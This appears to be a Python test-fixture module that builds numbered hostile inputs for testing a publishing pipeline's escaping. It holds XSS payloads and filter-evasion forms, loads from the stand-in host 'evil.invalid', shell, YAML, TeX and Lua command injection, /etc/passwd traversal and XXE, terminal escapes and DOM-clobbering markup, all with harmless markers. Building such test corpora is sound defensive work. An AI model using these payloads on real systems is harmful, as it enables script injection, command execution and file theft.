"""Hostile input: texts that would do something if any door took them for more than text.

Each case has a number; what it would run is ``pwned(number)``, what it would load comes from
``evil.invalid``, and what it would write is a file called ``pwned``. The forms follow the OWASP
"Cross Site Scripting Prevention" and "Filter Evasion" sheets, Unicode Technical Report 36, and the
syntaxes that a title meets on its way: Markdown, YAML, Jinja, Quarto's shortcodes, Lua, TeX, BibTeX,
JSON, XML, shells and terminals.
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass
from itertools import product

from tests.safety.corpus_places import ATTACHMENTS, FRONT, OPTIONS, OUTPUTS, QUARTO

_HANDLERS = (
    ("onerror", '<img src=x {h}="{c}">'),
    ("onerror", "<img src=x {h}={c}>"),
    ("onerror", "<IMG SRC=x {H}='{c}'>"),
    ("onerror", "<img/src=x/{h}={c}>"),
    ("onerror", '<img src="x`" {h}="{c}" `>'),
    ("onerror", '<video><source {h}="{c}"></video>'),
    ("onerror", '<audio src=x {h}="{c}"></audio>'),
    ("onerror", '<object data=x {h}="{c}"></object>'),
    ("onload", '<svg {h}="{c}"></svg>'),
    ("onload", "<svg/{h}={c}>"),
    ("onload", '<body {h}="{c}">'),
    ("onload", '<iframe {h}="{c}"></iframe>'),
    ("onload", '<style {h}="{c}"></style>'),
    ("ontoggle", '<details open {h}="{c}">x</details>'),
    ("onfocus", '<input autofocus {h}="{c}">'),
    ("onfocus", '<select autofocus {h}="{c}"></select>'),
    ("onfocus", '<textarea autofocus {h}="{c}"></textarea>'),
    ("onfocus", '<a href="#" autofocus tabindex=0 {h}="{c}">x</a>'),
    ("onbegin", '<svg><animate {h}="{c}" attributeName="x" dur="1s"/></svg>'),
    ("onstart", '<marquee {h}="{c}">x</marquee>'),
    ("onanimationstart", '<p style="animation: a 1s" {h}="{c}">x</p>'),
    ("onpointerenter", '<p {h}="{c}">x</p>'),
    ("onclick", '<button {h}="{c}">x</button>'),
    ("onmouseover", '<math><mi {h}="{c}">x</mi></math>'),
    ("onscroll", '<div {h}="{c}">x</div>'),
    ("onerror", '[x](y){{{h}="{c}"}}'),
    ("onerror", '![x](y){{{h}="{c}"}}'),
    ("onclick", '[x]{{{h}="{c}"}}'),
    ("onclick", '`x`{{{h}="{c}"}}'),
    ("onclick", '## x {{{h}="{c}"}}'),
    ("onclick", '::: {{{h}="{c}"}}\nx\n:::'),
)
_SCHEMES = (
    "javascript:{c}",
    "JaVaScRiPt:{c}",
    "java&#x73;cript:{c}",
    "javascript&colon;{c}",
    "java\tscript:{c}",
    "&#1;javascript:{c}",
    "vbscript:{c}",
    "data:text/html,<script>{c}</script>",
    "data:text/html;base64,PHNjcmlwdD5wd25lZCgxKTwvc2NyaXB0Pg==",
)
_CARRIERS = (
    "[x]({s})",
    "[x](<{s}>)",
    '<a href="{s}">x</a>',
    "![x]({s})",
    '<iframe src="{s}"></iframe>',
    '<form action="{s}"><button>x</button></form>',
    '<button formaction="{s}">x</button>',
    '<object data="{s}"></object>',
    '<embed src="{s}">',
    '<svg><a xlink:href="{s}"><text>x</text></a></svg>',
    '<math href="{s}">x</math>',
    '<meta http-equiv="refresh" content="0;url={s}">',
    '<base href="{s}">',
)
_BREAKOUTS = (
    "<script>{c}</script>",
    "<SCRIPT>{c}</SCRIPT>",
    "<script >{c}</script >",
    "<scr<script>ipt>{c}</scr</script>ipt>",
    "</script><script>{c}</script>",
    "</title><script>{c}</script>",
    "</textarea><script>{c}</script>",
    "</style><script>{c}</script>",
    "--><script>{c}</script>",
    "]]><script>{c}</script>",
    '"><script>{c}</script>',
    "'><script>{c}</script>",
    "\"'--></script></style></title><img src=x onerror={c}>",
    "<!--<script>{c}</script>",
    '<noscript><p title="</noscript><img src=x onerror={c}>">',
    "<svg><script>{c}</script></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src=x onerror={c}>",
    "<template><script>{c}</script></template>",
    "&lt;script&gt;{c}&lt;/script&gt;",
    "&amp;lt;script&amp;gt;{c}",
    "\\u003cscript\\u003e{c}\\u003c/script\\u003e",
    "%3Cscript%3E{c}%3C/script%3E",
    "＜script＞{c}＜/script＞",
    "<script src=https://evil.invalid/a.js></script>",
    "<script type=module>import('https://evil.invalid/a.js')</script>",
    "<link rel=stylesheet href=https://evil.invalid/a.css>",
    "<style>@import url(https://evil.invalid/a.css);</style>",
    '<p style="background:url(https://evil.invalid/a.png)">x</p>',
    "<img src=https://evil.invalid/a.png>",
    "<img srcset='https://evil.invalid/a.png 1x'>",
    "<video poster=https://evil.invalid/a.png></video>",
    "<iframe src=https://evil.invalid/></iframe>",
    "<iframe srcdoc='<script>parent.{c}</script>'></iframe>",
    "![x](https://evil.invalid/a.png)",
    "```{{=html}}\n<script>{c}</script>\n```",
    "`<img src=x onerror={c}>`{{=html}}",
    "````{{=html}}\n</main><script>{c}</script>\n````",
    "x\n\n<script>\n\n{c}\n\n</script>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={c}>#x'/></svg>",
    "<svg><animate attributeName=href values=javascript:{c} /><a id=x><text>x</text></a></svg>",
    "<svg><set attributeName=onmouseover to={c} /></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.{c}</script>'></iframe></foreignObject></svg>",
    "<svg><image href='https://evil.invalid/a.png'/></svg>",
    "<svg><style>@import 'https://evil.invalid/a.css'</style></svg>",
    "<svg><desc><![CDATA[</desc><script>{c}</script>]]></svg>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror={c}></annotation-xml></math>",
    "<math><maction actiontype='statusline#javascript:{c}' xlink:href='javascript:{c}'>x</maction>",
    "<math><semantics><mi>x</mi><annotation encoding='application/x-tex'><img src=x onerror={c}>"
    "</annotation></semantics></math>",
    "$\\text{{<img src=x onerror={c}>}}$",
    "<object type='image/svg+xml' data='x.svg'><param name=src value='javascript:{c}'></object>",
    "<frameset onload={c}><frame src='javascript:{c}'></frameset>",
    "<link rel=prefetch href=https://evil.invalid/a><link rel=import href=https://evil.invalid/a>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'none'\">",
    "<meta http-equiv=Set-Cookie content='pwned=1'>",
    "<base target=_blank href=https://evil.invalid/>",
    "<form action=https://evil.invalid/ id=f><input name=q></form><button form=f>x</button>",
    "<input type=image src=https://evil.invalid/a.png formaction='javascript:{c}'>",
    "<isindex action='javascript:{c}' type=image>",
    "<dialog open onclose={c}><form method=dialog><button autofocus>x</button></form></dialog>",
    "<button popovertarget=p>x</button><div id=p popover onbeforetoggle={c}>x</div>",
    "<div style='animation-name:x' onanimationstart={c}></div><style>@keyframes x{{}}</style>",
    '<p style="width:expression({c});behavior:url(https://evil.invalid/a.htc)">x</p>',
    "<p style='background-image:\\75 rl(https://evil.invalid/a.png)'>x</p>",
    "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{c}'/>\">",
    "<video controls><track default src='data:text/vtt,WEBVTT' onload={c}></video>",
    "<portal src='javascript:{c}'></portal><fencedframe src='https://evil.invalid/'></fencedframe>",
    "<x-pwned onclick={c} contenteditable autofocus onfocus={c} tabindex=0>x</x-pwned>",
    "<a href='&#106;&#97;&#118;&#97;script:{c}'>x</a>",
    "<a href='java\nscript:{c}'>x</a><a href=' \x0bjavascript:{c}'>x</a>",
    "<a ping=https://evil.invalid/ href=# onclick={c}>x</a>",
    "<a href='blob:https://evil.invalid/x'>x</a><a href='view-source:x'>z</a>",
    "<?php system('touch pwned') ?><?xml-stylesheet href='javascript:{c}'?>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
    "<![CDATA[<script>{c}</script>]]>",
    "<!--[if gte IE 4]><script>{c}</script><![endif]-->",
    "<xml id=x><b>&lt;img src=x onerror={c}&gt;</b></xml><span datasrc=#x dataformatas=html></span>",
    "<listing>&lt;img onerror={c} src=x&gt;</listing><xmp><img src=x onerror={c}></xmp>",
    "<plaintext><script>{c}</script>",
    "<select><template><img src=x onerror={c}></template></select>",
    "<template shadowrootmode=open><script>{c}</script><style>*{{display:none}}</style></template>",
    "<slot name=x onslotchange={c}></slot>",
    "</main></body></html><script>{c}</script>",
    "</div></section></article></main><footer><script>{c}</script></footer>",
    "<table><tr><td></table><script>{c}</script>",
)
_SYNTAX = (
    "{{{{ 7 * 191 }}}}",
    "{{% set x = 1 %}}{{{{ x }}}}",
    "{{{{ ''.__class__.__mro__ }}}}",
    "${{7*191}}",
    "#{{7*191}}",
    "<%= 7*191 %>",
    "{{{{< include /etc/passwd >}}}}",
    "{{{{< include ../../../../../../etc/passwd >}}}}",
    "{{{{< env PATH >}}}}",
    "{{{{< meta author >}}}}",
    "{{{{< video https://evil.invalid/a.mp4 >}}}}",
    "---\ntitle: pwned\n---",
    "...\n---\npwned: true\n---",
    '"\npwned: true\n"',
    "'\npwned: true",
    "x: y: [",
    "!!python/object/apply:os.system ['touch pwned']",
    "&a [*a, *a]",
    "*undefined",
    "%YAML 9.9",
    "@nobody2000",
    "[@nobody2000]{{.x}}",
    "::: {{.x}}",
    ":::",
    "```",
    "~~~",
    "$$",
    "<!--",
    "[^1]",
    "[^1]: x",
    "[x]: https://evil.invalid/",
    "| a | b |\n|---|---|\n",
    "- [x] {c}",
    "# {{.unnumbered}}",
    "\\input{{/etc/passwd}}",
    "\\immediate\\write18{{touch pwned}}",
    "$\\href{{javascript:{c}}}{{x}}$",
    "$\\unicode{{x3c}}script$",
    "}} @comment{{x}}",
    "}},\n}}\n@article{{pwned, title={{x}}}}",
    "{{\\{{",
    "\\",
    "{{unbalanced",
    "$(touch pwned)",
    "`touch pwned`",
    "; touch pwned #",
    "| touch pwned",
    "&& touch pwned",
    "'; touch pwned; '",
    "\"; os.execute('touch pwned') --",
    "]] os.execute('touch pwned') --[[",
    "!touch pwned",
    "%%bash\ntouch pwned",
    "__import__('os').system('touch pwned')",
    '=HYPERLINK("https://evil.invalid/","x")',
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "file:///etc/passwd",
    "CON",
    "-rf",
    "--help",
)
_CHARACTERS = (
    "\u202egnp.exe",
    "\u2066x\u2069\u2067y",
    "a\u200bb\u200cc\u200dd\ufeff",
    "\u061c\u200e\u200f",
    "e" + "\u0301" * 60,
    "\u0e49" * 40,
    "ﷺ﷽",
    "𝓢𝓬𝓻𝓲𝓹𝓽",
    "аdmin",
    "\ufdd0\ufffe\uffff",
    "\ud800 lone",
    "\U000e0041\U000e0042",
    "\x00nul",
    "\x08\x08\x7f",
    "\x1b[2J\x1b[31mred",
    "\x1b]0;title\x07",
    "\x1b]8;;https://evil.invalid/\x1b\\x\x1b]8;;\x1b\\",
    "\x9b2J",
    "\x0bvertical\x0cfeed",
    "\u2028line\u2029paragraph\x85next",
    "\r\ncarriage",
    "tab\tbed",
    " leading and trailing ",
    "",
    " ",
    "." * 3,
    "x" * 5000,
    "(" * 12,
    "[" * 9,
    ">" * 25,
    "*" * 40,
    "`" * 101,
    "{" * 12,
    "<" * 60,
    "&" * 100,
    "가" * 2000,
)
#: Ids, names, classes and attributes that the pages' own scripts go by, or that would stand before the
#: browser's own objects.
_CLOBBERS = (
    "<a id=weeknotes><a id=weeknotes name=stored href='x:y'>x</a>",
    "<img name=body><img name=querySelector><img name=querySelectorAll><img name=getElementById>",
    "<form name=body><input name=children></form><form name=documentElement></form>",
    "<iframe name=location></iframe><embed name=addEventListener><object name=createElement></object>",
    "<form id=search role=search><label>x</label><input name=q value=x></form>",
    "<main id=main>x</main><header>x</header><footer>x</footer>",
    "<div id=search></div><div id=contents-title></div><div id=references></div><div id=cited></div>",
    "<table data-sorted=x><thead><tr><th data-sort=x>x</th></tr></thead></table>",
    "<form data-filter><select name=x></select></form><p data-filter-count></p>",
    "<form data-span>x</form>",
    "<div data-gallery>x</div>",
    "<p data-fold-all=open>x</p><p data-scheme-toggle>x</p><button data-seen>x</button>",
    "<details data-fold='__proto__'><summary>x</summary></details><p class=week></p>",
    "<div data-since='\"'><b data-since-list></b><b data-since-count></b></div><b data-news-count></b>",
    "<div class=calendar>x</div>",
    "<div class=pager>x</div><div class='bars'>x</div><p class='tabset'>x</p><p class='tab'>x</p>",
    "<div class=tabset><section class=tab></section><section class=tab id='%'></section></div>",
    "::: {.panel-tabset}\n## {{#%}}\n:::",
    "## x {{#%}}\n\n## y {{#__proto__}}\n\n## z {{#constructor}}",
    "## x {{#main}}\n\n## y {{#search}}\n\n[z](#main)",
    "<div class='sourceCode'>x</div><pre class=sourceCode></pre><div class=scroll></div>",
    "<div class=week>x</div><div class='note references'>x</div><div id=refs>x</div>",
    "<section id=footnotes class=footnotes>x</section><div id=quarto-appendix>x</div>",
    "<h1 class=title>x</h1><header id=title-block-header>x</header><main class=content>x</main>",
    "<div class=quarto-video><iframe src='javascript:{c}'></iframe></div>",
    "<div class='callout callout-note'><div class=callout-header data-bs-toggle=collapse>x</div></div>",
    "<div class='code-with-filename-file' onclick={c}>x</div><div class='ansi-escaped-output'>x</div>",
    "<p hidden id=until-found>x</p><p accesskey=x inert contenteditable draggable=true>x</p>",
    "<label for=q>x</label><output form=f>x</output><map name=x><area href='javascript:{c}'></map>",
)


@dataclass(frozen=True)
class Case:
    """A hostile text: its number and group, and where it is an output, the type of that."""

    number: int
    group: str
    text: str
    kind: str = ""

    @property
    def call(self) -> str:
        return f"pwned({self.number})"


def _texts() -> Iterator[tuple[str, ...]]:
    for handler, form in _HANDLERS:
        yield "handler", form.replace("{h}", handler).replace("{H}", handler.upper())
    for number, (carrier, scheme) in enumerate(product(_CARRIERS, _SCHEMES)):
        # Each carrier with every scheme would say the same over and over: every third, and all links.
        if number % 3 == 0 or carrier.startswith(("[", "<a")):
            yield "address", carrier.replace("{s}", scheme)
    groups = {
        "markup": _BREAKOUTS,
        "syntax": _SYNTAX,
        "characters": tuple(text.replace("{", "{{") for text in _CHARACTERS),
        "clobber": _CLOBBERS,
        "quarto": QUARTO,
        "front": FRONT,
        "option": OPTIONS,
        "attachment": ATTACHMENTS,
    }
    for group, texts in groups.items():
        for text in texts:
            yield group, _doubled(text) if group in ("front", "option", "attachment") else text
    for kind, text in OUTPUTS:
        yield "output", text, kind


def _doubled(text: str) -> str:
    """A text whose braces, but for its call, were written singly."""
    return text.replace("{", "{{").replace("}", "}}").replace("{{c}}", "{c}")


def _filled(text: str, number: int) -> str:
    return text.replace("{c}", f"pwned({number})").replace("{{", "{").replace("}}", "}")


CASES = tuple(
    Case(number, group, *(_filled(text, number) for text in texts))
    for number, (group, *texts) in enumerate(_texts(), 1)
)
